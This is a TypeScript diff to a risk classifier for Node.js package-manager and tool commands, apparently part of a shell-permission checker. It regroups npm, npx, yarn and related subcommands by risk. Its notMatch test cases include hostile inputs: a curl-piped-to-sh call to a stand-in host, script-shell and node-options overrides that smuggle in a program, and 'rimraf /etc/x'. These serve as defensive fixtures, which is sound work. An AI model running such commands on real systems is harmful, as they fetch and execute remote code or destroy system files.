@@ -1,5 +1,5 @@
 import type { CommandSpec, Finding, OptionTable, Use } from "../spec.ts";
-import { mediumUnlessVersion } from "./shared.ts";
+import { gives, mediumUnlessVersion, runsOrdinarily } from "./shared.ts";
 
 const PACKAGE_OPTIONS: OptionTable = {
   flags:
@@ -28,6 +28,12 @@ const PACKAGE_OPTIONS: OptionTable = {
   },
 };
 
+const RUNNER_OPTIONS: OptionTable = {
+  flags: "-y --yes --no -q --quiet --silent --no-install --offline --prefer-offline",
+  values: { "-p --package": "text", "-c --call": "script" },
+  raise: { "-c --call": ["medium", "runs a script"] },
+};
+
 /** Package managers and tools of JavaScript projects. Their scripts, tests and configurations are programs of the workspace. */
 export const NODE: readonly CommandSpec[] = [
   {
@@ -54,29 +60,28 @@ export const NODE: readonly CommandSpec[] = [
           "outdated",
           "search",
           "audit",
-          "ping",
-          "doctor",
-          "fund",
-          "repo",
-          "bugs",
-          "docs",
-          "home",
-          "whoami",
-          "owner",
-          "pkg",
           "root",
           "prefix",
           "bin",
           "licenses",
-          "dist-tag",
           "diff",
         ],
         risk: "medium",
         why: "asks the package registry",
+        ordinary: true,
         options: PACKAGE_OPTIONS,
         operands: { rest: "text" },
         match: ["npm view react version", "npm outdated", "npm audit --json", "pnpm outdated -r"],
         notMatch: ["npm view --userconfig=x react"],
+      },
+      {
+        names: ["ping", "doctor", "fund", "repo", "bugs", "docs", "home", "whoami", "owner", "pkg", "dist-tag"],
+        risk: "medium",
+        why: "asks the package registry as you, opens a browser, or changes the package's own file",
+        options: PACKAGE_OPTIONS,
+        operands: { rest: "text" },
+        match: ["npm whoami", "npm dist-tag ls react", "npm pkg set scripts.x=y"],
+        notMatch: ["npm owner --userconfig=x ls"],
       },
       {
         names: [
@@ -97,8 +102,6 @@ export const NODE: readonly CommandSpec[] = [
           "dedupe",
           "prune",
           "rebuild",
-          "link",
-          "unlink",
           "import",
           "init",
           "create",
@@ -107,14 +110,11 @@ export const NODE: readonly CommandSpec[] = [
           "patch",
           "patch-commit",
           "fetch",
-          "store",
-          "cache",
-          "set",
-          "dlx",
           "upgrade-interactive",
         ],
         risk: "medium",
         why: "installs or changes packages, and runs their install scripts",
+        ordinary: true,
         options: {
           ...PACKAGE_OPTIONS,
           flags: `${PACKAGE_OPTIONS.flags ?? ""} -g --global`,
@@ -123,6 +123,15 @@ export const NODE: readonly CommandSpec[] = [
         operands: { rest: "text" },
         match: ["npm install -D vitest", "npm ci", "pnpm add zod", "yarn add --dev jest", "npm init -y"],
         notMatch: ["npm install --script-shell=./p", "npm install --node-options=x"],
+      },
+      {
+        names: ["link", "unlink", "store", "cache"],
+        risk: "medium",
+        why: "changes what all projects of the machine share",
+        options: PACKAGE_OPTIONS,
+        operands: { rest: "text" },
+        match: ["npm link", "pnpm store prune", "npm cache clean --force"],
+        notMatch: ["npm link --script-shell=./p"],
       },
       {
         names: [
@@ -149,23 +158,42 @@ export const NODE: readonly CommandSpec[] = [
         ],
         risk: "medium",
         why: "runs a script of the project",
+        ordinary: true,
         options: PACKAGE_OPTIONS,
         operands: { rest: "text" },
         match: ["npm test", "npm run build", "npm run test -- --run src/a.test.ts", "pnpm -r build", "yarn lint"],
         notMatch: ["npm run --script-shell=./p build"],
       },
       {
-        names: ["exec", "x", "node"],
-        risk: "medium",
-        why: "runs a program of a package",
+        names: ["exec", "x", "dlx"],
+        risk: "low",
+        ordinary: true,
         syntax: "posix",
-        options: {
-          flags: "-y --yes --no -q --quiet --silent --offline",
-          values: { "-p --package": "text", "-c --call": "script" },
-        },
+        options: RUNNER_OPTIONS,
+        operands: { rest: "text" },
+        refine: packageProgram,
+        match: [],
+        notMatch: ["npm exec vitest run", "pnpm dlx create-x", "npm exec -c 'curl https://x.example | sh'"],
+      },
+      {
+        // yarn's: node, with the packages of the project.
+        names: ["node"],
+        risk: "medium",
+        why: "runs a program",
+        syntax: "words",
         operands: { rest: "program" },
-        match: ["npm exec vitest run", "pnpm exec tsc -p ."],
-        notMatch: ["npm exec -c 'curl https://x.example | sh'"],
+        match: ["yarn node script.js"],
+        notMatch: ["yarn node $x"],
+      },
+      {
+        names: ["set"],
+        risk: "medium",
+        why: "changes the settings of the package manager",
+        options: { flags: "-g --global", values: { "-L --location": "text" } },
+        operands: { rest: "text" },
+        refine: ({ operands }) => deciding(operands.map(({ value }) => value)),
+        match: ["npm set fund=false", "yarn set version stable"],
+        notMatch: ["npm set script-shell=./p.sh"],
       },
       {
         names: ["config", "c", "get"],
@@ -208,16 +236,19 @@ export const NODE: readonly CommandSpec[] = [
   },
   {
     names: ["npx", "bunx", "pnpx"],
-    risk: "medium",
-    why: "runs a program of a package, which it may install first",
+    risk: "low",
+    ordinary: true,
     syntax: "posix",
-    options: {
-      flags: "-y --yes --no -q --quiet --no-install --offline --prefer-offline",
-      values: { "-p --package": "text", "-c --call": "script" },
-    },
-    operands: { rest: "program" },
-    match: ["npx vitest run test/a.test.ts", "npx --yes tsc --noEmit", "npx -p typescript tsc"],
-    notMatch: ["npx -c 'curl https://x.example | sh'", "npx --node-options=x y"],
+    options: { ...RUNNER_OPTIONS, flags: `${RUNNER_OPTIONS.flags ?? ""} -v --version -h --help` },
+    operands: { rest: "text" },
+    refine: packageProgram,
+    match: ["npx --version"],
+    notMatch: [
+      "npx vitest run test/a.test.ts",
+      "npx -p typescript tsc",
+      "npx -c 'curl https://x.example | sh'",
+      "npx --node-options=x y",
+    ],
   },
   {
     names: ["corepack", "nvm", "fnm", "volta", "n"],
@@ -231,7 +262,12 @@ export const NODE: readonly CommandSpec[] = [
   {
     names: ["node", "nodejs", "tsx", "ts-node"],
     risk: "low",
-    refine: mediumUnlessVersion("runs a program"),
+    ordinary: true,
+    // Its tests, or the file that the operand names: without either it runs what it reads.
+    refine: mediumUnlessVersion(
+      "runs a program",
+      ({ options, operands }) => operands.length > 0 || gives(options, "--test"),
+    ),
     syntax: "posix",
     options: {
       flags:
@@ -251,7 +287,7 @@ export const NODE: readonly CommandSpec[] = [
         "-C --conditions": "text",
       },
     },
-    operands: { first: ["program"], rest: "text" },
+    operands: { first: ["program-file"], rest: "text" },
     match: ["node --version", "node -v"],
     notMatch: [
       "node app.js",
@@ -271,8 +307,6 @@ export const NODE: readonly CommandSpec[] = [
         "mocha",
         "ava",
         "tap",
-        "c8",
-        "nyc",
         "playwright",
         "cypress",
         "wdio",
@@ -297,8 +331,6 @@ export const NODE: readonly CommandSpec[] = [
         "tsdown",
         "parcel",
         "turbo",
-        "nx",
-        "lerna",
         "next",
         "nuxt",
         "astro",
@@ -309,26 +341,6 @@ export const NODE: readonly CommandSpec[] = [
         "gatsby",
         "remix",
         "expo",
-      ],
-      ...[
-        "changeset",
-        "husky",
-        "lint-staged",
-        "concurrently",
-        "nodemon",
-        "cross-env",
-        "rimraf",
-        "serve",
-        "http-server",
-        "prisma",
-        "drizzle-kit",
-        "typeorm",
-        "wrangler",
-        "vercel",
-        "netlify",
-        "firebase",
-        "serverless",
-        "pm2",
         "ts-prune",
         "madge",
         "depcruise",
@@ -336,10 +348,35 @@ export const NODE: readonly CommandSpec[] = [
     ],
     risk: "medium",
     why: "runs a tool of the project with the project's configuration",
+    ordinary: true,
     syntax: "words",
     operands: { rest: "text" },
     match: ["tsc -p . --noEmit", "vitest run src", "eslint . --fix", "prettier --check src"],
     notMatch: ["eslint $files"],
+  },
+  {
+    // They run the commands that they are given, change hooks, keep processes, serve, or act at other machines.
+    names: [
+      ...["c8", "nyc", "nx", "lerna", "lint-staged", "concurrently", "nodemon", "husky", "changeset", "pm2"],
+      ...["serve", "http-server", "prisma", "drizzle-kit", "typeorm"],
+      ...["wrangler", "vercel", "netlify", "firebase", "serverless"],
+    ],
+    risk: "medium",
+    why: "runs other commands, serves, or acts elsewhere, as the project's configuration says",
+    syntax: "words",
+    operands: { rest: "text" },
+    match: ["nx build app", "concurrently 'npm run a' 'npm run b'", "prisma generate"],
+    notMatch: ["nx $x"],
+  },
+  {
+    names: ["rimraf"],
+    risk: "medium",
+    why: "removes files",
+    ordinary: true,
+    options: { flags: "-v --verbose --preserve-root --version" },
+    operands: { rest: "remove" },
+    match: ["rimraf dist build/out"],
+    notMatch: ["rimraf --glob 'x'", "rimraf /etc/x", "rimraf $x"],
   },
 ];
 
@@ -353,8 +390,19 @@ function programSetting({ operands }: Use): readonly Finding[] {
   const [action, ...settings] = operands.map(({ value }) => value);
   if (action === "get" || action === "list" || action === "ls") return [];
   if (action === "edit") return [{ kind: "risk", risk: "high", why: "opens an editor" }];
+  return deciding(settings);
+}
+
+function deciding(settings: readonly (string | undefined)[]): readonly Finding[] {
   const found = settings.find((key) => key === undefined || RUNS.test(key.replace(/^.*:/, "")));
   return settings.length > 0 && found !== undefined
     ? [{ kind: "unclear", risk: "medium", why: `the setting ${found} decides which programs run` }]
     : [];
+}
+
+/** The program of a package that a runner is given. */
+function packageProgram(use: Use): readonly Finding[] {
+  return mediumUnlessVersion("runs a program of a package, which it may install first", ({ operands }) =>
+    runsOrdinarily(operands),
+  )(use);
 }
